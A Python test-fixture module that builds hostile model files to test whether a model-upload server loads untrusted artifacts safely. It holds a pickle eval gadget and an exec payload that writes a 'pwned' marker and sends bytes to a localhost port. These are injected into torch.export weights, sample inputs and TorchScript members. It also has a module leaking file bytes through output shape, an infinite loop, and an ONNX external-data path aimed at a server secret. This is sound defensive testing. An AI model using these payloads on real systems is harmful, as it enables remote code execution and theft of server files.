"""Hostile teacher files, built by the tests: each tries to run code, read a file or reach the network
when a server loads or runs it. ``marker`` is a path the attack writes to prove it ran."""

import io
import json
import pickle
import warnings
import zipfile
from pathlib import Path

import torch
from torch import nn


class _Run:
    """Unpickles by evaluating ``code`` with full pickle: what a tenant would love a server to do."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return eval, (self.code,)


def _attack(marker: Path, result: str = "None", port: int | None = None) -> str:
    """An expression that, evaluated, writes ``marker``, tries to send bytes to 127.0.0.1:``port``, and
    yields ``result``; each step's failure is ignored, so the attack goes on as far as it can."""
    source = f"""
import socket, torch
try:
    open({str(marker)!r}, 'w').write('pwned')
except Exception:
    pass
if {port!r} is not None:
    try:
        socket.create_connection(('127.0.0.1', {port!r}), timeout=2).sendall(b'leak')
    except Exception:
        pass
result = {result}
"""
    return f"(exec({source!r}, g := {{}}), g['result'])[1]"


class Tiny(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x):
        return self.fc(x)


def exported_program(path: Path) -> Path:
    batch = torch.export.Dim("batch", min=1)
    ep = torch.export.export(Tiny().eval(), (torch.zeros(2, 4),), dynamic_shapes=({0: batch},))
    torch.export.save(ep, str(path))
    return path


def torchscript(module: nn.Module, path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FutureWarning)
        torch.jit.save(torch.jit.script(module), str(path))
    return path


def _rewrite_zip(src: Path, dest: Path, replace: dict) -> Path:
    """Copy a zip, replacing members whose name ends with a key of ``replace`` by its bytes (or by what
    a callable makes of the old bytes)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new(data) if callable(new) else new
            zout.writestr(info, data)
    return dest


def pt2_with_pickled_sample_inputs(tmp: Path, marker: Path) -> Path:
    """``sample_inputs`` that need full pickle: torch.export.load falls back to it, running the code."""
    good = exported_program(tmp / "good.pt2")
    payload = pickle.dumps(_Run(_attack(marker, "((torch.zeros(2, 4),), {})")))
    return _rewrite_zip(good, tmp / "sample_inputs.pt2", {"data/sample_inputs/model.pt": payload})


def _pickled_weight(code: str) -> bytes:
    buf = io.BytesIO()
    torch.save(_Run(code), buf)
    return buf.getvalue()


def _use_pickle(config: bytes) -> bytes:
    parsed = json.loads(config)
    parsed["config"]["fc.weight"]["use_pickle"] = True
    return json.dumps(parsed).encode()


def pt2_with_pickled_weight(tmp: Path, marker: Path, *, port: int | None = None) -> Path:
    """A weight marked ``use_pickle`` whose pickle runs code and then returns a valid [3, 4] tensor, so the
    teacher works and is accepted where the loader trusts it. With ``port``, the code tries to connect to
    127.0.0.1:port as well."""
    code = _attack(marker, "torch.nn.Parameter(torch.ones(3, 4))", port)
    good = exported_program(tmp / "good.pt2")
    return _rewrite_zip(good, tmp / f"weight{port or ''}.pt2", {
        "model_weights_config.json": _use_pickle,
        "data/weights/weight_0": _pickled_weight(code),
    })


def torchscript_with_pickle_member(tmp: Path, marker: Path) -> Path:
    good = torchscript(Tiny().eval(), tmp / "good.pt")
    return _rewrite_zip(good, tmp / "member.pt", {"constants.pkl": pickle.dumps(_Run(_attack(marker)), protocol=2)})


class ReadsFile(nn.Module):
    """Reads one byte of ``path`` and returns ``2 + byte`` classes: the byte leaks through the class count.
    With ``min_batch``, it only reads on batches larger than that (the upload's probe uses 2 and 3)."""

    def __init__(self, path: str, index: int = 0, min_batch: int = 0):
        super().__init__()
        self.path, self.index, self.min_batch = path, index, min_batch

    def forward(self, x):
        classes = 10
        if x.shape[0] > self.min_batch:
            data = torch.from_file(self.path, shared=False, size=self.index + 1, dtype=torch.uint8)
            classes = 2 + int(data[self.index])
        return torch.zeros(x.shape[0], classes)


class SpinsForever(nn.Module):
    def forward(self, x):
        total = torch.zeros(1)
        while bool(total[0] >= 0):
            total = total + 1
        return torch.zeros(x.shape[0], 2) + total


def onnx_with_external_data(path: Path, secret: Path) -> Path:
    """An ONNX model whose weight is said to live in an absolute path on the server."""
    from onnx import TensorProto, helper

    weight = TensorProto()
    weight.name, weight.data_type = "W", TensorProto.FLOAT
    weight.dims.extend([4, 3])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", str(secret)), ("offset", "0"), ("length", "48")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["input", "W"], ["logits"])], "leak",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 3])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    path.write_bytes(model.SerializeToString())
    return path
